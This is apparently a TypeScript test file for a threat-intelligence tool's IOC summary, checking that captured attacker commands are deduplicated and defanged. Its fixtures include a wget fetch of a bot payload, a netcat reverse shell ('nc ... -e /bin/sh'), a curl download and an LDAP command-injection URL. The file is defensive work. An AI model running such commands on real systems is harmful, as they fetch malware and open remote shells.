import { describe, expect, it } from 'vitest';
import { emptyIocs, type Iocs, type MitsuEvent } from '../events/event.js';
import { IocSummary } from './ioc-summary.js';

function event(iocs: Partial<Iocs>, src = '192.0.2.10', start = '2024-05-01T00:00:00.000Z'):
  MitsuEvent {
  return { iocs: { ...emptyIocs(), ...iocs }, src_ip: src, start, tags: [] } as unknown as
    MitsuEvent;
}

/** What a chat client or a browser would turn into a link, or an address left readable. */
const LIVE = /\b(?:https?|ftp|tftp|ldap):\/\/|\d+\.\d+\.\d+\.\d+|[0-9a-f]+:[0-9a-f:]*:[0-9a-f]/i;

describe('the IOC summary', () => {
  it('counts one download written raw, decoded, or with the request line version once', () => {
    const summary = new IocSummary(['download']);
    summary.add(event({ downloads: ['wget+http://198.51.100.7/bot+-O+/tmp/b HTTP/1.1',
      'wget http://198.51.100.7/bot -O /tmp/b HTTP/1.1'] }));
    summary.add(event({ downloads: ['wget http://198.51.100.7/bot -O /tmp/b'] }, '192.0.2.11'));
    summary.add(event({ downloads: ['wget%20http://198.51.100.7/bot%20-O%20/tmp/b'] }));
    const rows = summary.rows({ raw: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ value: 'wget http://198.51.100.7/bot -O /tmp/b', events: 3,
      sources: 2 });
    expect(summary.rows()[0]?.value).toBe('wget hxxp://198[.]51[.]100[.]7/bot -O /tmp/b');
  });

  it('leaves no live link or address in any defanged row', () => {
    const summary = new IocSummary();
    summary.add(event({
      urls: ['http://a.example.com/x?u=http://198.51.100.7/y&v=https%3A%2F%2F198.51.100.8%2Fz',
        'ldap://198.51.100.9:1389/Basic/Command/Base64/eA=='],
      ips: ['::ffff:198.51.100.7', '2001:db8::5'],
      domains: ['c2.example.net'],
      downloads: ['nc 2001:db8::5 4444 -e /bin/sh', 'wget http://[2001:db8::6]/a -O a',
        'nc ::ffff:198.51.100.7 80', 'curl+-s+http%3A%2F%2F198.51.100.10%2Fx'],
    }));
    const values = summary.rows().map((r) => r.value);
    expect(values).toHaveLength(9);
    for (const value of values) expect(value).not.toMatch(LIVE);
    expect(values).toContain('hxxp://a[.]example[.]com/x?u=hxxp://198[.]51[.]100[.]7/y'
      + '&v=https%3A%2F%2F198[.]51[.]100[.]8%2Fz');
    expect(values).toContain('[:][:]ffff[:]198[.]51[.]100[.]7');
    expect(values).toContain('nc 2001[:]db8[:][:]5 4444 -e /bin/sh');
  });
});
